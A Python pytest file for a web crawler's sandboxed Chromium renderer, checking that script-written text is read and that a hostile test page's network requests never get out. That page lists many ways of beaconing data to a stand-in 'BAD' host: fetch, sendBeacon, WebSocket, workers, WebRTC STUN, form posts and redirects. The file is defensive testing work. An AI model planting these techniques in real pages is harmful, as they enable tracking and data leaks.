"""Pages that their script writes, in a real Chromium: what it writes is read, and nothing of it reaches the network."""

from __future__ import annotations

import contextlib
import importlib.util
import shutil
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import psutil
import pytest

from monitor.model import Fetch, Outcome
from monitor.runtime.browser import MOST_REQUESTS, NAMES, PAGE_SECONDS, rendered
from spiders.exchange import Ask

if importlib.util.find_spec("playwright") is None:
    pytest.skip("SKIPPED: pages written by script are not tested, playwright is not installed", allow_module_level=True)
if not any(map(shutil.which, NAMES)):
    pytest.skip("SKIPPED: pages written by script are not tested, no Chromium is installed", allow_module_level=True)

# Chromium starts in its own time on a busy machine.
pytestmark = [pytest.mark.timeout(180), pytest.mark.filterwarnings("default::ResourceWarning")]


@dataclass
class Canary:
    """A port that takes everything, by TCP and by UDP, and keeps what it got."""

    port: int
    hits: list[str] = field(default_factory=list)


def answer(tcp: socket.socket, canary: Canary) -> None:
    with contextlib.suppress(OSError):
        while True:
            connection, _ = tcp.accept()
            connection.settimeout(2)
            first = "opened"
            with connection, contextlib.suppress(OSError):
                first = connection.recv(200).decode("latin-1").partition("\r\n")[0]
            canary.hits.append(first)


def receive(udp: socket.socket, canary: Canary) -> None:
    while udp.recvfrom(2000)[0] != b"end":
        canary.hits.append("UDP")


@pytest.fixture
def canary() -> Iterator[Canary]:
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one = Canary(tcp.getsockname()[1])
    udp.bind(("127.0.0.1", one.port))

    threads = [
        threading.Thread(target=answer, args=(tcp, one), daemon=True),
        threading.Thread(target=receive, args=(udp, one), daemon=True),
    ]
    for thread in threads:
        thread.start()
    yield one
    udp.sendto(b"end", ("127.0.0.1", one.port))
    tcp.shutdown(socket.SHUT_RDWR)
    tcp.close()
    for thread in threads:
        thread.join(5)
    udp.close()


def read(engine: Any, crawler: Any, url: str, seconds: float = PAGE_SECONDS) -> Fetch:
    async def both() -> Fetch:
        return await rendered(crawler, await crawler.fetch(Ask(url)), seconds)

    found = engine.run(both(), 150)
    assert isinstance(found, Fetch)
    return found


SHIP = b"""<!doctype html><title>Port</title><body><p id=here>Loading</p><script src=/app.js></script>"""
APP = b"""fetch('/data.json').then(one => one.json()).then(data => {
  document.getElementById('here').textContent = data.text; })"""


def test_text_that_a_script_writes_is_read(engine: Any, build: Any, site: Any) -> None:
    site.answer("/app.js", APP, Content_Type="application/javascript")
    site.answer("/data.json", b'{"text": "The ship has left the port."}', Content_Type="application/json")
    found = read(engine, build(), site.answer("/page", SHIP, Content_Type="text/html"))
    assert found.outcome is Outcome.OK, found
    assert b"The ship has left the port." in found.body and b"Loading" not in found.body
    # The page itself was asked for once, by our crawler; every request bears our name.
    assert len(site.visits("/page")) == 1
    assert {one.header("user-agent") for one in site.asked} == {b"storywatch"}


def test_robots_txt_is_obeyed_by_scripts_too(engine: Any, build: Any, site: Any) -> None:
    site.answer("/robots.txt", b"User-agent: *\nDisallow: /data.json\n")
    site.answer("/app.js", APP, Content_Type="application/javascript")
    site.answer("/data.json", b'{"text": "The ship has left the port."}', Content_Type="application/json")
    found = read(engine, build(), site.answer("/page", SHIP, Content_Type="text/html"))
    assert found.outcome is Outcome.OK and b"Loading" in found.body
    assert site.visits("/app.js") and not site.visits("/data.json")


def test_pictures_are_not_asked_for_and_scripts_only_so_often(engine: Any, build: Any, site: Any) -> None:
    many = b"for (let n = 0; n < 50; n++) fetch('/data/' + n).catch(() => 0); new Image().src = '/picture.png'"
    page = b"<body><img src=/photo.jpg><link rel=stylesheet href=/style.css><script>" + many + b"</script>"
    assert read(engine, build(), site.answer("/page", page, Content_Type="text/html")).outcome is Outcome.OK
    paths = {one.path for one in site.asked}
    assert not paths & {"/photo.jpg", "/picture.png", "/style.css"}
    assert len([path for path in paths if path.startswith("/data/")]) == MOST_REQUESTS


def test_a_page_that_grows_beyond_the_cap_is_refused(engine: Any, build: Any, site: Any) -> None:
    page = b"<body><script>document.body.textContent = 'x'.repeat(300000)</script>"
    found = read(engine, build(max_body=200_000), site.answer("/page", page, Content_Type="text/html"))
    assert found.outcome is Outcome.TOO_LARGE, found


def test_a_script_that_never_ends_is_ended(engine: Any, build: Any, site: Any) -> None:
    page = b"<body><script>for (;;) ;</script>"
    found = read(engine, build(), site.answer("/page", page, Content_Type="text/html"), 8)
    assert (found.outcome, found.error) == (Outcome.TIMEOUT, "its script was not done after 8 s")
    left = [one for one in psutil.Process().children(recursive=True) if "chrom" in one.name()]
    assert psutil.wait_procs(left, timeout=10)[1] == []


HOSTILE = """<!doctype html><body><p>Here</p>
<img src="http://BAD/img"><iframe src="http://BAD/frame"></iframe><link rel=stylesheet href="http://BAD/style">
<link rel=preconnect href="http://BAD/"><link rel=dns-prefetch href="//NAME"><link rel=prefetch href="http://BAD/pre">
<link rel=preload as=fetch href="http://BAD/preload"><script src="http://BAD/script.js"></script>
<object data="http://BAD/object"></object><video src="http://BAD/video" autoplay></video>
<form id=f action="http://BAD/form" method=post><input name=a value=b></form>
<script>
const bad = 'BAD';
const quietly = one => { try { const it = one(); if (it && it.catch) it.catch(() => 0); } catch {} };
quietly(() => fetch('http://' + bad + '/fetch'));
quietly(() => fetch('http://' + bad + '/post', {method: 'POST', body: 'x', mode: 'no-cors'}));
quietly(() => fetch('http://NAME/name', {mode: 'no-cors'}));
quietly(() => fetch('/away', {mode: 'no-cors'}));
quietly(() => navigator.sendBeacon('http://' + bad + '/beacon', 'x'));
quietly(() => new WebSocket('ws://' + bad + '/socket'));
quietly(() => new EventSource('http://' + bad + '/events'));
quietly(() => { const one = new XMLHttpRequest(); one.open('GET', 'http://' + bad + '/xhr'); one.send(); });
quietly(() => new WebTransport('https://' + bad + '/transport').ready);
quietly(() => { const code = "fetch('http://BAD/worker', {mode: 'no-cors'}); new WebSocket('ws://BAD/worker');";
  new Worker(URL.createObjectURL(new Blob([code]))); });
quietly(() => { const code = "fetch('http://BAD/shared', {mode: 'no-cors'})";
  new SharedWorker(URL.createObjectURL(new Blob([code]))); });
quietly(() => navigator.serviceWorker.register('/service.js'));
quietly(() => { const one = new RTCPeerConnection({iceServers: [{urls: 'stun:' + bad}]});
  one.createDataChannel('x'); one.createOffer().then(offer => one.setLocalDescription(offer)); });
quietly(() => { const frame = document.createElement('iframe'); document.body.append(frame);
  const one = new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:' + bad}]});
  one.createDataChannel('x'); one.createOffer().then(offer => one.setLocalDescription(offer)); });
quietly(() => { const frame = document.createElement('iframe'); document.body.append(frame);
  new frame.contentWindow.WebSocket('ws://' + bad + '/framed');
  new frame.contentWindow.WebTransport('https://' + bad + '/framed').ready; });
quietly(() => window.open('http://' + bad + '/window'));
setTimeout(() => quietly(() => document.getElementById('f').submit()), 300);
setTimeout(() => quietly(() => { location = 'http://' + bad + '/moved'; }), 900);
</script>"""


def hostile(site: Any, canary: Canary) -> str:
    bad = f"127.0.0.1:{canary.port}"
    site.answer("/away", b"", 302, Location=f"http://{bad}/redirected")
    page = HOSTILE.replace("BAD", bad).replace("NAME", f"localhost:{canary.port}").encode()
    url: str = site.answer("/page", page, Content_Type="text/html")
    return url


def test_nothing_that_a_page_tries_reaches_the_inside(engine: Any, build: Any, site: Any, canary: Canary) -> None:
    crawler = build()
    found = read(engine, crawler, hostile(site, canary))
    assert canary.hits == [], canary.hits
    assert len(site.visits("/away")) == 1, "the redirect was tried, and judged by our guard"
    assert found.outcome is Outcome.OK and b"Here" in found.body, found


def test_an_open_browser_would_have_reached_it(engine: Any, site: Any, canary: Canary) -> None:
    """The page above does try: without our walls the canary is visited in many ways."""
    url = hostile(site, canary)

    async def openly() -> None:
        api = importlib.import_module("playwright.async_api")
        async with api.async_playwright() as playwright:
            program = next(filter(None, map(shutil.which, NAMES)))
            browser = await playwright.chromium.launch(executable_path=program, chromium_sandbox=False)
            page = await browser.new_page()
            await page.goto(url, wait_until="commit")
            await page.wait_for_timeout(3000)
            await browser.close()

    engine.run(openly(), 150)
    paths = {hit.split()[1] for hit in canary.hits if hit.count(" ") == 2}
    assert {"/img", "/fetch", "/socket", "/worker", "/redirected", "/name"} <= paths, canary.hits
    assert "UDP" in canary.hits
